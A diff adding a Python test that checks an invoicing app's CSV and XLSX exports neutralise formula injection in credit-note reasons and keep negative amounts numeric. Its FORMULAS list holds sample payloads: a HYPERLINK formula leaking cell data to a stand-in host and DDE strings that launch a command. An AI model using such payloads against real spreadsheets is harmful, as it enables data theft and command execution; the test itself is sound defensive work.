@@ -159,3 +159,36 @@ def test_the_usage_export_has_a_row_per_tenant_and_store(issued: list[Invoice]) 
     book = load_workbook(io.BytesIO(exports.usage_xlsx(usage)))
     assert book.sheetnames == ["Usage by store", "Usage by day"]
     assert book["Usage by store"].max_row == 5
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2, "open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_exports_write_no_formula_and_keep_negative_numbers_numbers(issued: list[Invoice], tenant_a: Tenant) -> None:
+    """A licensee's text (here a credit note's reason) cannot run in finance's spreadsheet (issue 16, finding 8)."""
+    mine = next(i for i in issued if i.tenant_id == tenant_a.pk)
+    for n, reason in enumerate(FORMULAS):
+        services.credit_note_issue(
+            actor=SYSTEM,
+            invoice=mine,
+            reason=reason,
+            lines=[services.CreditLineInput(description="Goodwill", amount=1)],
+            issued_on=date(2026, 6, 4 + n),
+        )
+    may = Invoice.unscoped.filter(period_start=MAY)
+    notes = _csv(exports.invoices_csv(may, table="credit_notes"))
+    assert [r["reason"] for r in notes] == ["goodwill", *("'" + reason for reason in FORMULAS)]
+
+    book = load_workbook(io.BytesIO(exports.invoices_xlsx(may)))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert not [text for text in texts if text.startswith(("=", "+", "@"))]
+    assert {"'" + reason for reason in FORMULAS} <= set(texts)
+
+    # Negative amounts stay numbers, in CSV and in XLSX.
+    table = (["reason", "amount", "amount_minor", "as_text"], [["-", Decimal("-12.50"), -1250, "-12.50"]])
+    assert exports.to_csv(table).decode().splitlines()[1] == "'-,-12.50,-1250,-12.50"
+    sheet = load_workbook(io.BytesIO(exports.to_xlsx([("Sheet", table)]))).active
+    assert [cell.value for cell in sheet[2]] == ["'-", -12.5, -1250, "-12.50"]
+    assert [cell.data_type for cell in sheet[2]][1:3] == ["n", "n"]
